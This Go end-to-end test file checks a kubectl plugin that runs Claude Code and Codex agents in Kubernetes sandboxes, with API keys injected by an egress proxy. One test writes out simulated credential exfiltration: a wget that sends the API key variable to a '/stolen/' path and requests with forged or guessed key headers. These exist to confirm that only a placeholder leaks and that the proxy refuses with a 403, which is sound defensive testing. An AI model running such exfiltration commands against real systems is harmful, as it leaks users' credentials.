package realnode

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/agentkernel/kubectl-agentkernel/pkg/egress/keys"
	"github.com/agentkernel/kubectl-agentkernel/pkg/sandbox"
	"github.com/agentkernel/kubectl-agentkernel/test/agentmock"
)

// The agents themselves on the real node (issues 24 and 25): the presets
// claude and codex, their install step exactly as written, the published
// CLIs talking to a scripted model API, their keys added by the egress
// proxy on the way out. Everything comes from build/build.sh, which
// reaches no registry:
//   - NodeImage is the stand-in for docker.io/library/node:22-bookworm
//     (build.sh's agent-image step says what differs);
//   - the npm registry is test/realnode/cmd/npmregistry serving the
//     packages test/agents/npm/package-lock.json pins (the CLIs and their
//     linux-x64 platform packages, fetched once on the host with npm);
//   - the model is test/agentmock's cmd/agentmock: Claude Code's
//     conversation over TLS on port 443 (the proxy's route reaches
//     api.anthropic.com there: its Pod resolves the name to the mock and
//     trusts the test's CA, nothing else of the product differs), and
//     Codex's on plain HTTP at model.agentmock.test:8080;
//   - the sandboxes reach the registry and the model only through their
//     namespace's egress proxy, by --allow-host; npm is told where the
//     registry is by --env NPM_CONFIG_REGISTRY, as a user with a private
//     mirror does.
//
// This file's name sorts last on purpose: go test runs a package's tests
// in file-name order, and these, the tier's most CPU-bound (npm unpacks
// ~200 MB of native binary per install, under TCG), run fastest once
// CI's e2e tier beside this one has ended.

// NodeImage is the presets' image; build/build.sh makes its stand-in.
const NodeImage = "docker.io/library/node:22-bookworm"

const (
	mirrorHost = "registry.mirror.test"
	mirrorPort = "8080"
	// anthropicHost is the claude preset's API host; in the guest it is
	// the mock, for the proxy only.
	anthropicHost = "api.anthropic.com"
	// modelHost:modelPort is Codex's model (its preset injects nothing:
	// the key is in the sandbox's Secret, the traffic plain HTTP through
	// the proxy).
	modelHost = "model.agentmock.test"
	modelPort = "8080"
	proxyPort = "3128"
	// flowDir is where the repository is copied in: the agent works there.
	flowDir = "/workspace/repo"
	// mirrorNS holds the registry and the model: their hostPath needs Pod
	// Security "privileged" (an unlabelled namespace).
	mirrorNS = "agentkernel-realnode-npm"
	// agentsNS holds the sandboxes and their proxy ("restricted", like the
	// suite's namespace, which the egress test installs its own proxy in).
	agentsNS = "agentkernel-agents"
	// installTimeout bounds one run with an install: under TCG npm
	// unpacks ~200 MB of native binary and the kubelet starts a Pod of a
	// 200 MB image.
	installTimeout = 20 * time.Minute
	// Expected versions: those of the presets' install lines.
	claudeVersion = "2.1.332"
	codexVersion  = "0.171.0"
	prompt        = "Make greeting.txt greet the agent and run the tests."
)

// needAgentImages fails unless the guest imported the agents' archive,
// which it does at boot before it is ready (guest/init): an import beside
// the tests once froze the guest.
func (s *suite) needAgentImages(t *testing.T) {
	t.Helper()
	b, err := os.ReadFile(s.node.ConsoleLog)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), "agent images imported") {
		t.Fatalf("the guest did not import %s at boot\n%s", NodeImage, s.node.Diagnostics())
	}
}

// agentRig is what the agents' runs share: the registry, the model, the
// proxy, and the keys.
type agentRig struct {
	registry  string // NPM_CONFIG_REGISTRY
	proxyIP   string
	mirrorLog func() string
	modelLog  func() string
	// realKey plays Claude Code's conversation; failKey makes the model
	// answer 500. Both are the user's, in the plugin's environment only.
	realKey, failKey string
	openAIKey        string
}

// proxyEnv names the proxy Pod where the plugin names its Service: the
// guest has no Service data path (no kube-proxy, egress_test.go), so the
// proxy variables and NO_PROXY say the Pod's address instead, as the
// plugin would say the Service's. The clients read them as they would the
// plugin's.
func (r *agentRig) proxyEnv() []string {
	var env []string
	for _, n := range []string{"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"} {
		env = append(env, "--env", n+"=http://"+r.proxyIP+":"+proxyPort)
	}
	for _, n := range []string{"NO_PROXY", "no_proxy"} {
		env = append(env, "--env", n+"=localhost,127.0.0.1,::1,"+r.proxyIP)
	}
	return env
}

// injectedBaseURL is the claude preset's ANTHROPIC_BASE_URL, by the
// proxy Pod's address (proxyEnv says why).
func (r *agentRig) injectedBaseURL() string {
	return keys.BaseURL(r.proxyIP+":"+proxyPort, anthropicHost)
}

// agentSize: the presets ask for 2 CPUs and 4Gi; the guest has 2 CPUs and 3Gi
// in all, shared with the proxy, the registry, the model and the relay.
var agentSize = []string{"--cpu", "500m", "--memory", "1536Mi"}

// startAgentRig starts the registry, the model and the proxy in the guest.
func (s *suite) startAgentRig(ctx context.Context, t *testing.T) *agentRig {
	t.Helper()
	s.needAgentImages(t)
	s.sdkNamespace(ctx, t, agentsNS)
	s.privilegedNamespace(ctx, t, mirrorNS)
	rig := &agentRig{
		registry:  "http://" + mirrorHost + ":" + mirrorPort + "/",
		realKey:   "sk-ant-realnode-" + sandbox.RandomHex(12),
		failKey:   "sk-ant-refused-" + sandbox.RandomHex(12),
		openAIKey: "sk-openai-realnode-" + sandbox.RandomHex(12),
	}
	var mirrorIP, modelIP string
	mirrorIP, rig.mirrorLog = s.startHostPathServer(ctx, t, "npm-mirror", "/var/lib/agentkernel/npm-mirror",
		"exec /srv/npmregistry -dir /srv -addr :"+mirrorPort,
		func(log string) bool { return strings.Contains(log, "serving") }, nil)

	ca, cert, key := modelCertificates(t, anthropicHost)
	if _, err := s.client.CoreV1().Secrets(mirrorNS).Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "agentmock-tls"},
		Type:       corev1.SecretTypeTLS,
		Data:       map[string][]byte{corev1.TLSCertKey: cert, corev1.TLSPrivateKeyKey: key},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.client.CoreV1().ConfigMaps(agentsNS).Create(ctx, &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "model-ca"},
		Data:       map[string]string{"ca.crt": string(ca)},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	// Claude Code's model over TLS on 443, failing for failKey; Codex's on
	// plain HTTP. The fail key is the mock's to know, as Anthropic knows
	// which keys it refuses.
	modelIP, rig.modelLog = s.startHostPathServer(ctx, t, "agentmock", "/var/lib/agentkernel/agentmock",
		"/srv/agentmock -listen :443 -tls-cert /tls/tls.crt -tls-key /tls/tls.key -claude-dir "+flowDir+
			" -fail-status 500 -fail-message 'Internal server error' -fail-key "+rig.failKey+" & "+
			"exec /srv/agentmock -listen :"+modelPort+" -claude-dir "+flowDir,
		func(log string) bool { return strings.Count(log, "serving on") == 2 },
		func(pod *corev1.Pod) {
			// Port 443 as UID 1000: a namespaced, "safe" sysctl of the Pod's
			// own network namespace.
			pod.Spec.SecurityContext.Sysctls = []corev1.Sysctl{{Name: "net.ipv4.ip_unprivileged_port_start", Value: "0"}}
			pod.Spec.Volumes = append(pod.Spec.Volumes, corev1.Volume{Name: "tls", VolumeSource: corev1.VolumeSource{
				Secret: &corev1.SecretVolumeSource{SecretName: "agentmock-tls"},
			}})
			c := &pod.Spec.Containers[0]
			c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: "tls", MountPath: "/tls", ReadOnly: true})
		})
	proxy := s.installEgressTrusting(ctx, t, agentsNS, []corev1.HostAlias{
		{IP: mirrorIP, Hostnames: []string{mirrorHost}},
		{IP: modelIP, Hostnames: []string{anthropicHost, modelHost}},
	}, "model-ca")
	rig.proxyIP = proxy.Status.PodIP
	return rig
}

// modelCertificates are a CA and a server certificate for host it signed,
// PEM.
func modelCertificates(t *testing.T, host string) (caPEM, certPEM, keyPEM []byte) {
	t.Helper()
	now := time.Now()
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	caTmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "agentkernel realnode model CA"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
	}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	ca, err := x509.ParseCertificate(caDER)
	if err != nil {
		t.Fatal(err)
	}
	leafKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	leafDER, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{
		SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: host}, DNSNames: []string{host},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}, ca, &leafKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	leafKeyDER, err := x509.MarshalPKCS8PrivateKey(leafKey)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}),
		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: leafDER}),
		pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: leafKeyDER})
}

// startHostPathServer runs script in a Pod of mirrorNS with the guest's
// directory dir at /srv (and what mutate adds), until ready says its log
// shows it serving; it returns the Pod's address and a function returning
// its log.
func (s *suite) startHostPathServer(ctx context.Context, t *testing.T, name, dir, script string, ready func(log string) bool, mutate func(*corev1.Pod)) (string, func() string) {
	t.Helper()
	pod := hardenedPod(name, SandboxImage, script, nil)
	pod.Namespace = mirrorNS
	pod.Spec.Volumes = append(pod.Spec.Volumes, corev1.Volume{Name: "srv", VolumeSource: corev1.VolumeSource{
		HostPath: &corev1.HostPathVolumeSource{Path: dir, Type: ptr.To(corev1.HostPathDirectory)},
	}})
	c := &pod.Spec.Containers[0]
	c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: "srv", MountPath: "/srv", ReadOnly: true})
	if mutate != nil {
		mutate(pod)
	}
	pods := s.client.CoreV1().Pods(mirrorNS)
	if _, err := pods.Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	logs := func() string {
		b, err := pods.GetLogs(pod.Name, &corev1.PodLogOptions{}).DoRaw(context.Background())
		if err != nil {
			return fmt.Sprintf("(no log: %v)", err)
		}
		return string(b)
	}
	var ip string
	if err := poll(ctx, podRunningTimeout, func() (bool, error) {
		p, err := pods.Get(ctx, pod.Name, metav1.GetOptions{})
		if err != nil {
			return false, nil
		}
		if p.Status.Phase == corev1.PodFailed || p.Status.Phase == corev1.PodSucceeded {
			return false, fmt.Errorf("%s ended: %s", name, statusLine(p))
		}
		ip = p.Status.PodIP
		return p.Status.Phase == corev1.PodRunning && ready(logs()), nil
	}); err != nil {
		t.Fatalf("%s did not start: %v\nits log: %s\n%s", name, err, logs(), s.node.Diagnostics())
	}
	return ip, logs
}

// linesWith are the lines of log holding every one of subs.
func linesWith(log string, subs ...string) []string {
	var out []string
	for _, l := range strings.Split(log, "\n") {
		all := true
		for _, sub := range subs {
			all = all && strings.Contains(l, sub)
		}
		if all && l != "" {
			out = append(out, l)
		}
	}
	return out
}

func keyField(key string) string { return "key=" + agentmock.KeyDigest(key) }

// TestAgentsWholeFlow: the user's first try, on the real kubelet —
// `run --agent claude` and `--agent codex` with the repository copied in,
// the preset's install step, the CLI's conversation with the model, the
// edited repository copied out, the agent's exit status; Claude Code's key
// added by the proxy, never in the sandbox; a pool member that installed
// the agent as it warmed up; and the failures a user meets.
func TestAgentsWholeFlow(t *testing.T) {
	s := needPlugin(t)
	ctx := context.Background()
	rig := s.startAgentRig(ctx, t)

	// Issue 25's promises with a plain client: the sandbox's environment
	// holds a placeholder; what it sends elsewhere carries nothing of
	// value; its requests to the route arrive with the real key, its own
	// credential header dropped; a second sandbox cannot use the route.
	t.Run("injected key", func(t *testing.T) { s.injectedKeyStaysOut(ctx, t, rig) })

	// The image alone, for the install's share of the runs below.
	c, cancel := context.WithTimeout(ctx, installTimeout)
	defer cancel()
	base := s.pluginRun(c, "", append(append([]string{"run", "rn-node", "-n", agentsNS, "--image", NodeImage,
		"--allow-host", mirrorHost + ":" + mirrorPort, "--read-only"}, append(agentSize, rig.proxyEnv()...)...),
		"--", "sh", "-c", "node --version && npm --version")...)
	if base.code != 0 || !strings.HasPrefix(base.stdout, "v22.") {
		t.Fatalf("node in the presets' image: %s\n%s", base, s.node.Diagnostics())
	}
	record("agents: run with the node image, no install (node --version)", base.took)
	t.Logf("the image: node %s", strings.ReplaceAll(strings.TrimSpace(base.stdout), "\n", ", npm "))

	var cold result
	t.Run("claude", func(t *testing.T) { cold = s.claudeWholeFlow(ctx, t, rig, base) })
	t.Run("claude, warm, the model fails", func(t *testing.T) { s.claudeWarmClaimFails(ctx, t, rig, cold) })
	t.Run("codex", func(t *testing.T) { s.codexWholeFlow(ctx, t, rig, base) })

	// Without the registry among the allowed hosts the proxy refuses it:
	// the install fails at once and says so, the command never runs.
	c2, cancel2 := context.WithTimeout(ctx, installTimeout)
	defer cancel2()
	r := s.pluginRunEnv(c2, []string{"ANTHROPIC_API_KEY=" + rig.realKey}, append(append([]string{"run", "rn-refused", "-n", agentsNS, "--agent", "claude",
		"--allow-host", "other.test:443", "--env", "NPM_CONFIG_REGISTRY=" + rig.registry}, append(agentSize, rig.proxyEnv()...)...), "--", "claude", "--version")...)
	if r.code == 0 || strings.Contains(r.stdout, claudeVersion) {
		t.Fatalf("an install through a fence without the registry: %s", r)
	}
	for _, want := range []string{"installing claude in sandbox/rn-refused failed", "403", mirrorHost} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("the refusal should say %q: %s", want, r)
		}
	}
	record("agents: run --agent claude, registry not allowed (→ failure)", r.took)
	s.sandboxGoneIn(ctx, t, agentsNS, "rn-refused")
}

// injectedKeyStaysOut: a sandbox with --inject runs `env` and sends its
// variables to another host it may reach; then it calls the model through
// the route with a credential header of its own. A second sandbox calls
// the route while the first one lives.
func (s *suite) injectedKeyStaysOut(ctx context.Context, t *testing.T, rig *agentRig) {
	c, cancel := context.WithTimeout(ctx, 2*podRunningTimeout)
	defer cancel()
	// The route's calls go to the proxy's address itself (-Y off, as
	// NO_PROXY says; busybox's wget reads no NO_PROXY): through a proxy,
	// busybox 1.35's wget sends --post-data with GET. The mock reads JSON
	// whatever the Content-Type says.
	const body = `{"model":"%s","max_tokens":8,"messages":[{"role":"user","content":"hi"}]}`
	r := s.pluginRunEnv(c, []string{"ANTHROPIC_API_KEY=" + rig.realKey}, append([]string{"create", "rn-keyholder", "-n", agentsNS,
		"--image", SandboxImage, "--cpu", "100m", "--memory", "64Mi",
		"--inject", "ANTHROPIC_API_KEY=" + anthropicHost + ":x-api-key", "--allow-host", mirrorHost + ":" + mirrorPort,
		"--env", "ANTHROPIC_BASE_URL=" + rig.injectedBaseURL()}, rig.proxyEnv()...)...)
	if r.code != 0 {
		t.Fatalf("create --inject: %s\n%s", r, s.node.Diagnostics())
	}
	s.deleteAtEnd(t, "rn-keyholder")
	script := `env | grep '^ANTHROPIC_' | sort
wget -q -O- "http://` + mirrorHost + `:` + mirrorPort + `/stolen/$ANTHROPIC_API_KEY" 2>&1; echo
wget -q -Y off -O- --header "X-Api-Key: stolen-by-the-sandbox" --post-data '` + fmt.Sprintf(body, "keyholder") + `' "$ANTHROPIC_BASE_URL/v1/messages"`
	held := s.pluginRun(c, "", "exec", "rn-keyholder", "-n", agentsNS, "--", "sh", "-c", script)
	t.Logf("the key holder:\n%s", held.stdout)
	if strings.Contains(held.stdout+held.stderr, rig.realKey) {
		t.Fatalf("the key is in the sandbox: %s", held)
	}
	if !strings.Contains(held.stdout, "ANTHROPIC_API_KEY="+keys.Placeholder) {
		t.Errorf("the sandbox's variable should hold the placeholder: %s", held)
	}
	if held.code != 0 || !strings.Contains(held.stdout, `"agentmock"`) {
		t.Errorf("the request through the route should reach the model and get its answer: %s\nmodel log:\n%s", held, rig.modelLog())
	}
	if l := rig.mirrorLog(); !strings.Contains(l, "/stolen/"+keys.Placeholder) || strings.Contains(l, rig.realKey) {
		t.Errorf("the other host should have got the placeholder, and nothing of the key:\n%s", l)
	}
	got := linesWith(rig.modelLog(), "model=keyholder")
	if len(got) != 1 || !strings.Contains(got[0], keyField(rig.realKey)) || !strings.Contains(got[0], "status=200") {
		t.Errorf("the model should have seen one request with the real key (%s), not the sandbox's header: %q", keyField(rig.realKey), got)
	}

	// A second sandbox, fenced the same way, without the grant.
	thief := `wget -q -Y off -O- --header "X-Api-Key: guessed" --post-data '` + fmt.Sprintf(body, "thief") + `' "` + rig.injectedBaseURL() + `/v1/messages" 2>&1; echo "wget exit $?"`
	r = s.pluginRun(c, "", append(append([]string{"run", "rn-thief", "-n", agentsNS, "--image", SandboxImage, "--cpu", "100m", "--memory", "64Mi",
		"--allow-host", mirrorHost + ":" + mirrorPort}, rig.proxyEnv()...), "--", "sh", "-c", thief)...)
	t.Logf("the second sandbox: %s", r)
	if !strings.Contains(r.stdout, "403") || strings.Contains(r.stdout, "wget exit 0") {
		t.Errorf("the route should refuse a sandbox without the grant (403): %s", r)
	}
	if got := linesWith(rig.modelLog(), "model=thief"); len(got) != 0 {
		t.Errorf("the second sandbox's request reached the model: %q", got)
	}
	s.sandboxGoneIn(ctx, t, agentsNS, "rn-thief")
}

// claudeArgs is `run --agent claude` of the flow: the repository copied in
// and out, the agent's environment printed (the key's variable), then
// `claude -p`. With pool, a claim of the pool (whose members have the
// sandbox flags already).
func (r *agentRig) claudeArgs(name, pool, repo, out string, extra ...string) []string {
	args := []string{"run", name, "-n", agentsNS, "--agent", "claude"}
	if pool != "" {
		args = append(args, "--pool", pool)
	} else {
		args = append(append(args, r.claudeSandboxFlags()...), agentSize...)
	}
	args = append(append(args, extra...),
		"--copy-in", repo+":"+flowDir, "--copy-out", flowDir+":"+out, "-w", flowDir,
		"--", "sh", "-c", `env | grep '^ANTHROPIC_' | sort; exec claude -p "$0" --output-format text --allowedTools 'Read,Edit,Bash(sh test.sh)'`, prompt)
	return args
}

// claudeSandboxFlags are the flags of a claude sandbox here: the registry
// allowed, the preset's key injected (the default with --allow-host).
func (r *agentRig) claudeSandboxFlags() []string {
	return append([]string{"--allow-host", mirrorHost + ":" + mirrorPort,
		"--env", "NPM_CONFIG_REGISTRY=" + r.registry,
		"--env", "ANTHROPIC_BASE_URL=" + r.injectedBaseURL(),
		"--env", "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1",
		// The first API error is final (Claude Code retries for minutes).
		"--env", "CLAUDE_CODE_MAX_RETRIES=0"}, r.proxyEnv()...)
}

// flowRepo is a fresh copy of test/agentmock's repository and where the
// run copies it out to (OUT/repo).
func flowRepo(t *testing.T) (repo, out string) {
	t.Helper()
	repo = filepath.Join(t.TempDir(), "repo")
	if err := os.Mkdir(repo, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := agentmock.WriteRepo(repo); err != nil {
		t.Fatal(err)
	}
	return repo, t.TempDir()
}

// claudeWholeFlow: the flow, its key injected; the sandbox kept to read its
// usage, then deleted. It returns the run.
func (s *suite) claudeWholeFlow(ctx context.Context, t *testing.T, rig *agentRig, base result) result {
	repo, out := flowRepo(t)
	c, cancel := context.WithTimeout(ctx, installTimeout)
	defer cancel()
	// The model's log is one for the whole test: this run's lines are
	// those after what it held before.
	before := len(rig.modelLog())
	r := s.pluginRunEnv(c, []string{"ANTHROPIC_API_KEY=" + rig.realKey}, rig.claudeArgs("rn-claude", "", repo, out, "--keep")...)
	s.deleteAtEnd(t, "rn-claude")
	if r.code != 0 {
		t.Fatalf("run --agent claude -- claude -p: %s\nmodel log:\n%s\nregistry log:\n%s\n%s", r, rig.modelLog(), rig.mirrorLog(), s.node.Diagnostics())
	}
	record("agents: run --agent claude, cold (install + a 4-turn conversation)", r.took)
	record("agents: run --agent claude, cold: to the agent's command (create, install, copy in)", r.commandAt)
	t.Logf("run --agent claude took %s, the image alone %s (TCG)", r.took.Round(time.Second), base.took.Round(time.Second))
	if !strings.Contains(r.stdout, agentmock.FinalText) {
		t.Errorf("claude's output lacks the conversation's final text %q: %s", agentmock.FinalText, r)
	}
	if got := readGreeting(t, filepath.Join(out, "repo")); got != agentmock.NewGreeting {
		t.Errorf("the copied-out greeting.txt says %q, want %q: the agent's edit did not come back", got, agentmock.NewGreeting)
	}
	if !strings.Contains(r.stdout, "ANTHROPIC_API_KEY="+keys.Placeholder) || strings.Contains(r.stdout+r.stderr, rig.realKey) {
		t.Errorf("the agent's environment should hold the placeholder, never the key: %s", r)
	}
	// Every request of the conversation carried the real key, added by
	// the proxy; none the placeholder. Every step played, by the version
	// the preset installed.
	log := rig.modelLog()
	if len(log) >= before { // not "(no log: …)"
		log = log[before:]
	}
	anthropic := linesWith(log, "api=anthropic")
	if len(linesWith(log, "api=anthropic", "step=3 status=200", keyField(rig.realKey))) != 1 {
		t.Errorf("the model did not play the conversation to its end with the real key (%s):\n%s", keyField(rig.realKey), log)
	}
	if bad := linesWith(log, keyField(keys.Placeholder)); len(bad) != 0 {
		t.Errorf("the placeholder reached the model: %q", bad)
	}
	if len(linesWith(log, "api=anthropic", "claude-cli/"+claudeVersion)) == 0 {
		t.Errorf("no request from Claude Code %s:\n%s", claudeVersion, log)
	}
	if l := rig.mirrorLog(); !strings.Contains(l, "/-/tarballs/anthropic-ai-claude-code-linux-x64-"+claudeVersion+".tgz → 200") {
		t.Errorf("the registry did not serve Claude Code's native binary:\n%s", l)
	}
	// What the proxy counted for it (published every 5 s).
	var usage result
	var requests float64
	if err := poll(ctx, time.Minute, func() (bool, error) {
		usage = s.pluginRun(ctx, "", "usage", "rn-claude", "-n", agentsNS, "-o", "json")
		requests = sumField(usage.stdout, "requests")
		return usage.code == 0 && requests >= float64(len(anthropic)), nil
	}); err != nil {
		t.Errorf("usage rn-claude should count the %d requests the model saw: %s", len(anthropic), usage)
	}
	table := s.pluginRun(ctx, "", "usage", "rn-claude", "-n", agentsNS)
	t.Logf("usage rn-claude:\n%s", table.stdout)
	if !strings.Contains(table.stdout, anthropicHost) {
		t.Errorf("usage should name %s: %s", anthropicHost, table)
	}
	if d := s.pluginRun(ctx, "", "delete", "rn-claude", "-n", agentsNS); d.code != 0 {
		t.Errorf("delete: %s", d)
	}
	s.sandboxGoneIn(ctx, t, agentsNS, "rn-claude")
	return r
}

// sumField adds up every number named name anywhere in the JSON document.
func sumField(doc, name string) float64 {
	var v any
	if json.Unmarshal([]byte(doc), &v) != nil {
		return 0
	}
	var sum float64
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			for k, x := range v {
				if n, ok := x.(float64); ok && k == name {
					sum += n
				}
				walk(x)
			}
		case []any:
			for _, x := range v {
				walk(x)
			}
		}
	}
	walk(v)
	return sum
}

// claudeWarmClaimFails: a pool whose member installed Claude Code as it
// warmed up, without a key; a claim of it runs the flow against a model
// that answers 500 (the mock, for failKey): the agent's failure and exit
// status, the repository still copied out. Its time to the command, warm,
// is the cold flow's counterpart (claudeWholeFlow).
func (s *suite) claudeWarmClaimFails(ctx context.Context, t *testing.T, rig *agentRig, cold result) {
	c, cancel := context.WithTimeout(ctx, installTimeout)
	defer cancel()
	pool := s.pluginRun(c, "", append(append([]string{"pool", "create", "rn-warm", "-n", agentsNS, "--agent", "claude", "--size", "1",
		"--timeout", installTimeout.String()}, rig.claudeSandboxFlags()...), agentSize...)...)
	if pool.code != 0 {
		t.Fatalf("pool create --agent claude: %s\n%s", pool, s.node.Diagnostics())
	}
	t.Cleanup(func() {
		c, cancel := context.WithTimeout(context.Background(), deleteTimeout)
		defer cancel()
		_ = s.pluginRun(c, "", "pool", "delete", "rn-warm", "-n", agentsNS, "--ignore-not-found")
	})
	record("agents: pool create --agent claude --size 1 (→ ready, installed)", pool.took)

	repo, out := flowRepo(t)
	failed := len(linesWith(rig.modelLog(), "status=500", keyField(rig.failKey)))
	r := s.pluginRunEnv(c, []string{"ANTHROPIC_API_KEY=" + rig.failKey}, rig.claudeArgs("rn-claude-warm", "rn-warm", repo, out)...)
	// The claim made a replacement, which installs in turn: it would
	// only slow what follows.
	_ = s.pluginRun(ctx, "", "pool", "delete", "rn-warm", "-n", agentsNS)
	// Claude Code exits 1 on an API error; run exits with its status.
	if r.code != 1 {
		t.Fatalf("run --pool with a failing model: want the agent's exit status 1: %s\nmodel log:\n%s\n%s", r, rig.modelLog(), s.node.Diagnostics())
	}
	if !strings.Contains(r.stdout+r.stderr, "500") {
		t.Errorf("the user is not told of the model's 500: %s", r)
	}
	if !strings.Contains(r.stderr, "claimed warm") {
		t.Errorf("run --pool should say it claimed a warm member: %s", r)
	}
	if got := readGreeting(t, filepath.Join(out, "repo")); got != agentmock.OldGreeting {
		t.Errorf("the copied-out greeting.txt says %q, want it untouched (%q)", got, agentmock.OldGreeting)
	}
	if got := len(linesWith(rig.modelLog(), "status=500", keyField(rig.failKey))); got != failed+1 {
		t.Errorf("the model should have refused the claim's key (%s) once, CLAUDE_CODE_MAX_RETRIES=0; it did %d times:\n%s", keyField(rig.failKey), got-failed, rig.modelLog())
	}
	record("agents: run --pool --agent claude, warm, a model answering 500 (→ exit 1)", r.took)
	record("agents: run --pool --agent claude, warm: to the agent's command (claim, copy in)", r.commandAt)
	t.Logf("to the agent's command: cold %s, warm %s (TCG)", cold.commandAt.Round(time.Second), r.commandAt.Round(time.Second))
	s.sandboxGoneIn(ctx, t, agentsNS, "rn-claude-warm")
}

// codexWholeFlow: the flow with Codex, its model named by its -c flags (it
// ignores $OPENAI_BASE_URL), its key from the sandbox's Secret.
func (s *suite) codexWholeFlow(ctx context.Context, t *testing.T, rig *agentRig, base result) {
	repo, out := flowRepo(t)
	c, cancel := context.WithTimeout(ctx, installTimeout)
	defer cancel()
	args := append(append([]string{"run", "rn-codex", "-n", agentsNS, "--agent", "codex",
		"--allow-host", mirrorHost + ":" + mirrorPort, "--allow-host", modelHost + ":" + modelPort,
		"--env", "NPM_CONFIG_REGISTRY=" + rig.registry}, append(agentSize, rig.proxyEnv()...)...),
		"--copy-in", repo+":"+flowDir, "--copy-out", flowDir+":"+out, "-w", flowDir, "--keep",
		"--", "codex", "exec", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox")
	args = append(append(args, agentmock.CodexFlags("http://"+modelHost+":"+modelPort+"/v1")...), prompt)
	r := s.pluginRunEnv(c, []string{"OPENAI_API_KEY=" + rig.openAIKey}, args...)
	s.deleteAtEnd(t, "rn-codex")
	if r.code != 0 {
		t.Fatalf("run --agent codex -- codex exec: %s\nmodel log:\n%s\nregistry log:\n%s\n%s", r, rig.modelLog(), rig.mirrorLog(), s.node.Diagnostics())
	}
	record("agents: run --agent codex, cold (install + a 4-turn conversation)", r.took)
	t.Logf("run --agent codex took %s, the image alone %s (TCG)", r.took.Round(time.Second), base.took.Round(time.Second))
	if got := readGreeting(t, filepath.Join(out, "repo")); got != agentmock.NewGreeting {
		t.Errorf("the copied-out greeting.txt says %q, want %q: the agent's edit did not come back", got, agentmock.NewGreeting)
	}
	log := rig.modelLog()
	last := fmt.Sprintf("step=%d status=200", len(agentmock.CodexScript())-1)
	if len(linesWith(log, "api=openai", last, keyField(rig.openAIKey))) != 1 {
		t.Errorf("the model did not play Codex's conversation to its end with the user's key (%s):\n%s", keyField(rig.openAIKey), log)
	}
	if l := rig.mirrorLog(); !strings.Contains(l, "/-/tarballs/openai-codex-"+codexVersion+"-linux-x64.tgz → 200") {
		t.Errorf("the registry did not serve Codex's native binary:\n%s", l)
	}

	// A model host the fence does not name: the proxy refuses it, and the
	// agent fails at once saying so, rather than hang.
	c2, cancel2 := context.WithTimeout(ctx, 2*podRunningTimeout)
	defer cancel2()
	const unfenced = "model.not-allowed.test"
	blocked := s.pluginRun(c2, "", append(append([]string{"exec", "rn-codex", "-n", agentsNS, "-w", flowDir, "--",
		"codex", "exec", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox"},
		agentmock.CodexFlags("http://"+unfenced+":"+modelPort+"/v1")...), prompt)...)
	t.Logf("codex against a host the fence does not name: %s", blocked)
	if blocked.code == 0 || !strings.Contains(blocked.stdout+blocked.stderr, "403") {
		t.Errorf("codex against %s should fail with the proxy's 403: %s", unfenced, blocked)
	}
	record("agents: codex exec, its model's host not allowed (→ failure)", blocked.took)
	if d := s.pluginRun(ctx, "", "delete", "rn-codex", "-n", agentsNS); d.code != 0 {
		t.Errorf("delete: %s", d)
	}
	s.sandboxGoneIn(ctx, t, agentsNS, "rn-codex")
}

// deleteAtEnd deletes sandbox name of agentsNS when the test ends, if it
// is still there (a run with --keep, a create).
func (s *suite) deleteAtEnd(t *testing.T, name string) {
	t.Cleanup(func() {
		c, cancel := context.WithTimeout(context.Background(), deleteTimeout)
		defer cancel()
		_ = s.pluginRun(c, "", "delete", name, "-n", agentsNS, "--ignore-not-found")
	})
}

// readGreeting is the copied-out repository's greeting.
func readGreeting(t *testing.T, out string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(out, "greeting.txt"))
	if err != nil {
		t.Fatalf("the repository was not copied out: %v", err)
	}
	return strings.TrimSpace(string(b))
}
